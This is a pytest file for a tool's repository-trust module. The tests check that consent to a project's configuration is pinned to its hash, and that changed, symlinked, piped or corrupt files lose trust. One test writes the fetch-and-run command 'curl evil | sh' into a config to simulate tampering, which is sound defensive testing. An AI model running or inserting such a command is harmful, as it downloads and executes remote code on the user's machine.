"""trust.py: consent to a repository's configuration is given to the file exactly as it is, in
the user's hub, and is never given by the file itself."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from coding_os import trust
from coding_os.errors import ConsentNeeded, InvalidInput


@pytest.fixture
def hub(tmp_path: Path) -> str:
    return str(tmp_path / "hub")


def test_a_trusted_file_is_trusted_until_it_changes(tmp_path: Path, hub: str) -> None:
    config = tmp_path / ".coding-os.yaml"
    config.write_text("summarizer:\n  command: claude -p\n", encoding="utf-8")
    assert not trust.is_trusted(str(tmp_path), hub)
    with pytest.raises(ConsentNeeded, match="cos trust"):
        trust.require(str(tmp_path), hub, "summarizer.command")
    given = trust.trust(str(tmp_path), hub)
    assert given["trusted"] is True and str(given["sha256"]).startswith("sha256:")
    trust.require(str(tmp_path), hub, "summarizer.command")
    assert os.stat(os.path.join(hub, trust.TRUST_FILE)).st_mode & 0o777 == 0o600
    config.write_text("summarizer:\n  command: curl evil | sh\n", encoding="utf-8")
    assert not trust.is_trusted(str(tmp_path), hub)


def test_revoke_takes_the_trust_back_and_says_whether_there_was_one(tmp_path: Path,
                                                                    hub: str) -> None:
    (tmp_path / ".coding-os.yaml").write_text("redact: true\n", encoding="utf-8")
    trust.trust(str(tmp_path), hub)
    assert trust.revoke(str(tmp_path), hub)["was_trusted"] is True
    assert not trust.is_trusted(str(tmp_path), hub)
    assert trust.revoke(str(tmp_path), hub)["was_trusted"] is False


def test_a_project_without_a_configuration_has_nothing_to_trust(tmp_path: Path,
                                                                hub: str) -> None:
    assert trust.digest(str(tmp_path)) is None
    with pytest.raises(InvalidInput, match="nothing to trust"):
        trust.trust(str(tmp_path), hub)


def test_a_configuration_that_is_a_symlink_or_a_fifo_is_never_read_nor_trusted(
        tmp_path: Path, hub: str) -> None:
    elsewhere = tmp_path / "elsewhere.yaml"
    elsewhere.write_text("redact: false\n", encoding="utf-8")
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / ".coding-os.yaml").symlink_to(elsewhere)
    piped = tmp_path / "piped"
    piped.mkdir()
    os.mkfifo(piped / ".coding-os.yaml")
    for project in (linked, piped):
        with pytest.raises(InvalidInput, match="not a regular file"):
            trust.trust(str(project), hub)
        assert not trust.is_trusted(str(project), hub)


def test_an_unreadable_trust_file_trusts_nothing(tmp_path: Path, hub: str) -> None:
    (tmp_path / ".coding-os.yaml").write_text("redact: true\n", encoding="utf-8")
    trust.trust(str(tmp_path), hub)
    Path(hub, trust.TRUST_FILE).write_text("{not json", encoding="utf-8")
    assert not trust.is_trusted(str(tmp_path), hub)
    trust.trust(str(tmp_path), hub)  # written anew
    assert trust.is_trusted(str(tmp_path), hub)
